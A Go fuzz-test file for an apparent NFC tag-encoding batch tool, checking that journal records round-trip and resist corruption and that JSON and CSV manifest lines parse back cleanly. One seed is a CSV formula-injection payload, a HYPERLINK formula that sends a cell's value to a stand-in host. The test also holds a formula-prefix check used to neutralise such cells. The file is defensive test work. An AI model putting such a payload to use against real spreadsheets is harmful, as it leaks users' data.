package batch

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/tagline-station/tagline/manifest"
)

// Stored records: whatever the bytes, decoding returns a record or an
// error, never a panic; a record that decodes re-encodes (as the current
// version) to bytes that decode to the same record; and a checksummed
// record with any one byte changed does not decode. Seeds: f.Add below and
// testdata/fuzz/FuzzDecodeRecords.
func FuzzDecodeRecords(f *testing.F) {
	f.Add(encodeBinding(&v1Binding))
	f.Add(encodeIntent(&v1Intent))
	f.Add(encodeBatch(&v1Batch))
	f.Add(encodeBatch(&v2Batch))
	f.Add(asV1(encodeBinding(&v1Binding)))
	f.Add([]byte{1, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01})
	f.Fuzz(func(t *testing.T, data []byte) {
		if b, err := decodeBinding(data); err == nil {
			enc := encodeBinding(&b)
			if again, err := decodeBinding(enc); err != nil || again != b {
				t.Fatalf("binding does not round-trip: %+v -> %+v %v", b, again, err)
			}
			if b.Outcome != manifest.Encoded && b.Outcome != manifest.Verified {
				t.Fatalf("binding with outcome %q decoded", b.Outcome)
			}
			flipped(t, enc, func(d []byte) error { _, err := decodeBinding(d); return err })
		}
		if it, err := decodeIntent(data); err == nil {
			if !it.KeysMayHaveChanged || (it.State != IntentInProgress && it.State != IntentFailed) {
				t.Fatalf("intent decoded as %+v", it)
			}
			enc := encodeIntent(&it)
			if again, err := decodeIntent(enc); err != nil || again != it {
				t.Fatalf("intent does not round-trip: %+v -> %+v %v", it, again, err)
			}
			flipped(t, enc, func(d []byte) error { _, err := decodeIntent(d); return err })
		}
		if b, err := decodeBatch(data); err == nil {
			if !validKDF(b.KDF) || (b.Status != StatusOpen && b.Status != StatusClosed) {
				t.Fatalf("batch decoded as %+v", b)
			}
			enc := encodeBatch(&b)
			if again, err := decodeBatch(enc); err != nil || again != b {
				t.Fatalf("batch does not round-trip: %+v -> %+v %v", b, again, err)
			}
			flipped(t, enc, func(d []byte) error { _, err := decodeBatch(d); return err })
		}
	})
}

// flipped checks that no single-bit change of a checksummed record
// decodes (CRC-32C detects every one).
func flipped(t *testing.T, rec []byte, decode func([]byte) error) {
	t.Helper()
	// Quadratic in the record's length: long records, which the fuzzer
	// grows, are left to the round trip.
	if len(rec) > 600 {
		return
	}
	for i := range rec {
		bad := bytes.Clone(rec)
		bad[i] ^= 1 << (i % 8)
		if decode(bad) == nil {
			t.Fatalf("record %x decodes with byte %d changed", rec, i)
		}
	}
}

// Manifest lines: for any binding and batch the journal can hold, the
// JSON record line and header parse back with encoding/json to the same
// values, the CSV record row and trailer parse back with encoding/csv, every
// record is exactly one line, and no CSV cell starts a formula. Seeds:
// f.Add below and testdata/fuzz/FuzzManifestLines.
func FuzzManifestLines(f *testing.F) {
	f.Add("04A1B2C3D4E5F6", "CAP-30-BLUE", "ndef-sun-v1", "line1", byte(1), true, 2, uint32(7), uint64(42), int64(1772438101), uint32(730123456), false)
	f.Add("04A1B2C3D4E5F6", `Cap "Ø" 30mm, blue`, "https://x.example/t?p={picc}&m={mac}", "st-2", byte(255), false, 1, uint32(0), uint64(1), int64(0), uint32(0), true)
	f.Add("04000000000000", `=HYPERLINK("http://x.example/?"&A1,"click")`, "a,b\t\"c\"", "s", byte(3), true, -1, uint32(1<<32-1), uint64(1<<64-1), int64(253402300799), uint32(999999999), false)
	f.Add("04000000000000", "\tlead", " lead", "s", byte(0), false, 0, uint32(0), uint64(0), int64(-62135596800), uint32(1), true)
	f.Fuzz(func(t *testing.T, uid, sku, template, station string, kv byte, verified bool, attempts int, readCtr uint32, seq uint64, sec int64, ns uint32, test bool) {
		// Only what the journal can hold: SKUs and templates that pass its
		// checks (v1 journals also took a tab in a SKU), names that pass
		// validName, times a clock gives.
		if validText("template", template, 256, false) != nil || validText("template", sku, 64, true) != nil ||
			validName("station id", station) != nil || sec < -62135596800 || sec > 253402300799 || ns >= 1e9 {
			return
		}
		u, err := NormalizeUID(manifest.UID(uid))
		if err != nil {
			return
		}
		at := time.Unix(sec, int64(ns)).UTC()
		b := manifest.Binding{UID: u, SKU: sku, BatchID: "B-1", StationID: station, KeyVersion: kv, MasterKCV: "A1B2C3",
			TemplateHash: testTemplateHash, Outcome: manifest.Encoded, Attempts: attempts, ReadCtr: readCtr,
			StartedAt: at, CompletedAt: at, Seq: seq}
		if verified {
			b.Outcome = manifest.Verified
		}
		bt := Batch{ID: "B-1", SKU: sku, Template: template, KeyVersion: kv, Target: attempts, KDF: KDFTagline, Test: test}
		if verified {
			bt.KDF = KDFSDMBackend
		}

		line := manifest.AppendRecord(nil, &b)
		oneLine(t, line)
		var got manifest.Binding
		if err := json.Unmarshal(line, &got); err != nil {
			t.Fatalf("record line %s: %v", line, err)
		}
		if got != b {
			t.Fatalf("record line %s parses as %+v, want %+v", line, got, b)
		}
		hdr := manifest.AppendHeader(nil, bt.manifestHeader(station, seq))
		oneLine(t, hdr)
		var h struct {
			SKU, Template, KDF, Station string
			KeyVersion                  byte `json:"key_version"`
			Since                       uint64
			Test                        bool
		}
		if err := json.Unmarshal(hdr, &h); err != nil {
			t.Fatalf("header %s: %v", hdr, err)
		}
		wantKDF := ""
		if bt.KDF != DefaultKDF {
			wantKDF = bt.KDF
		}
		if h.SKU != sku || h.Template != template || h.KDF != wantKDF || h.Test != test || h.Station != station || h.Since != seq || h.KeyVersion != kv {
			t.Fatalf("header %s parses as %+v", hdr, h)
		}

		row := manifest.AppendCSVRecord(nil, &b)
		oneLine(t, row)
		cells := readCSV(t, row)
		if columns := readCSV(t, manifest.AppendCSVColumns(nil)); len(cells) != len(columns) {
			t.Fatalf("csv row %q has %d cells", row, len(cells))
		}
		for _, i := range []int{1, 2, 3, 4, 6, 7, 8} { // the text cells; numbers are numbers
			if c := cells[i]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Fatalf("csv cell %q starts a formula", c)
			}
		}
		wantSKU := sku
		if strings.ContainsRune("=+-@\t\r", rune(sku[0])) {
			wantSKU = "'" + sku
		}
		if cells[1] != string(u) || cells[2] != wantSKU || cells[0] != strconv.FormatUint(seq, 10) || cells[9] != strconv.Itoa(attempts) ||
			cells[12] != at.Format(time.RFC3339Nano) {
			t.Fatalf("csv row %q for %+v", row, b)
		}
		tr := manifest.AppendCSVTrailer(nil, bt.manifestHeader(station, seq), manifest.Summary{Count: 1, SHA256: "00", NextSince: seq})
		kvs := map[string]string{}
		for _, c := range readCSV(t, tr)[1:] {
			k, v, _ := strings.Cut(c, "=")
			kvs[k] = v
		}
		if kvs["sku"] != sku || kvs["template"] != template || kvs["kdf"] != wantKDF || (kvs["test"] == "true") != test {
			t.Fatalf("csv trailer %q parses as %v", tr, kvs)
		}
	})
}

func oneLine(t *testing.T, line []byte) {
	t.Helper()
	if !utf8.Valid(line) || bytes.IndexByte(line, '\n') != len(line)-1 || bytes.IndexByte(line, '\r') >= 0 {
		t.Fatalf("not exactly one line: %q", line)
	}
}

func readCSV(t *testing.T, line []byte) []string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(line))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 1 {
		t.Fatalf("csv %q: %d rows, %v", line, len(rows), err)
	}
	return rows[0]
}
